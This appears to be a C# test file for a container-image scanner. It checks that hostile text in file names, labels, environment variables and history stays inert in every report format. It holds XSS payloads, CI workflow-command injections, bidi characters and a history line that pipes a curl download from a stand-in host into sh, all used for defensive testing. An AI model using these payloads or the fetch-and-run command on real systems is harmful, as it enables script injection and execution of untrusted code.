using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Rampart.Robustness.Tests.Support;
using Rampart.Testing;

namespace Rampart.Robustness.Tests;

/// <summary>
/// Text an image controls (file names, labels, history, environment) reaches every output of a scan. It must stay text:
/// no HTML or Markdown markup, no CI workflow command, no mention, no bidi reordering, wherever it lands.
/// </summary>
public sealed partial class HostileTextTests : IDisposable
{
    private const string Payloads =
        "<script>alert(1)</script><img src=x onerror=alert(1)>[click](javascript:alert(1))<!-- rampart:marker -->" +
        "| a | b |```@everyone @octo-org/admins ##vso[task.setvariable variable=pwned]yes ::error::pwned ::set-output name=pwned::yes" +
        "\u200b\u202eevil\u202c\u2066";

    private readonly TempDirectory _temp = new();

    public void Dispose() => _temp.Dispose();

    [Fact]
    public async Task Scan_HostileTextInNamesLabelsAndHistory_StaysInertInEveryOutput()
    {
        var archive = _temp.Combine("image.tar");
        await File.WriteAllBytesAsync(archive, HostileImage());
        var outputs = _temp.Combine("out");

        var run = await Bounded.RunAsync("hostile text", token => RampartCli.RunAsync(
            new System.Collections.Hashtable(), token, "scan", "docker-archive:" + archive, "--output-dir", outputs, "--fail-on", "none"));

        Assert.True(run.ExitCode == 0, run.All);
        var markdown = await File.ReadAllTextAsync(Path.Combine(outputs, "report.md"));
        var html = await File.ReadAllTextAsync(Path.Combine(outputs, "report.html"));
        var sarif = await File.ReadAllTextAsync(Path.Combine(outputs, "results.sarif"));
        var results = await File.ReadAllTextAsync(Path.Combine(outputs, "results.json"));

        // The hostile names did reach the reports: the checks below look at text that is there.
        Assert.Contains("onerror", markdown, StringComparison.Ordinal);
        Assert.Contains("onerror", html, StringComparison.Ordinal);
        Assert.Contains("pwned", run.Output, StringComparison.Ordinal);

        foreach (var (name, text) in new[] { ("stdout", run.Output), ("stderr", run.Error), ("markdown", markdown) })
        {
            Assert.DoesNotContain("##vso[", text, StringComparison.Ordinal);
            Assert.DoesNotContain(text.Split('\n', '\r'), line => line.TrimStart().StartsWith("::", StringComparison.Ordinal));
            Assert.DoesNotContain("\u202e", text, StringComparison.Ordinal);
            Assert.DoesNotContain("\u2066", text, StringComparison.Ordinal);
            Assert.False(ControlCharacter().IsMatch(text), $"{name} holds a control character from the image");
        }

        // Markdown shows "\<" as a literal "<": only an unescaped one would open a tag, a comment or a link.
        Assert.False(UnescapedMarkup().IsMatch(markdown), "Markdown holds unescaped markup: " + UnescapedMarkup().Match(markdown).Value);
        Assert.DoesNotContain("@everyone", markdown, StringComparison.Ordinal);
        Assert.DoesNotContain("<script>alert", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<img src=x", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("href=\"javascript:", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("Content-Security-Policy", html, StringComparison.Ordinal);
        Assert.NotNull(JsonNode.Parse(sarif));
        Assert.NotNull(JsonNode.Parse(results));
    }

    /// <summary>
    /// A setuid binary and a world-writable file whose ustar names carry the payloads and a line break (a raw header name
    /// keeps bytes PAX would refuse), a vendor label, an environment variable and a history step carrying them too.
    /// </summary>
    private static byte[] HostileImage()
    {
        var name = "usr/bin/x\n::error::pwned\r##vso[task.complete]\u001b]0;t\u0007";
        var tar = new RawTar()
            .Entry("etc/os-release", '0', "ID=alpine\nVERSION_ID=3.20.3\nPRETTY_NAME=\"Alpine ::error::os ##vso[x]\"\n"u8.ToArray())
            .Entry(System.Text.Encoding.UTF8.GetBytes(name), '0', "x"u8.ToArray())
            .ToArray();
        var setuid = tar.ToArray();

        // Mode 4755 for the hostile entry: patch its header's mode field and checksum.
        SetMode(setuid, 512 * 2, "0004755");
        var layer2 = new TestLayer()
            .File("/usr/bin/" + Payloads.Replace('/', '_'), "y", TestLayer.FileMode | UnixFileMode.SetUser | UnixFileMode.UserExecute)
            .File("/tmp/" + Payloads.Replace('/', '_'), "z", TestLayer.FileMode | UnixFileMode.OtherWrite)
            .ToTar();
        var runtime = new JsonObject
        {
            ["Env"] = new JsonArray("NOTE=" + Payloads),
            ["Labels"] = new JsonObject { ["org.opencontainers.image.vendor"] = "Evil\n::error::label " + Payloads, ["description"] = Payloads },
        };
        var history = new JsonArray(
            new JsonObject { ["created_by"] = "/bin/sh -c curl http://x.example/i.sh | sh # \n::error::history " + Payloads },
            new JsonObject { ["created_by"] = "COPY . / # " + Payloads });
        return Archives.Docker([setuid, layer2], runtime: runtime, history: history);
    }

    private static void SetMode(byte[] tar, int headerOffset, string octal)
    {
        System.Text.Encoding.ASCII.GetBytes(octal).CopyTo(tar, headerOffset + 100);
        "        "u8.ToArray().CopyTo(tar, headerOffset + 148);
        var sum = tar.AsSpan(headerOffset, 512).ToArray().Sum(b => (int)b);
        System.Text.Encoding.ASCII.GetBytes(Convert.ToString(sum, 8).PadLeft(6, '0') + "\0 ").CopyTo(tar, headerOffset + 148);
    }

    [GeneratedRegex(@"(?<!\\)<(?:script|img|!--)|(?<!\\)\]\(javascript:", RegexOptions.IgnoreCase)]
    private static partial Regex UnescapedMarkup();

    [GeneratedRegex(@"[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u0080-\u009f]")]
    private static partial Regex ControlCharacter();
}
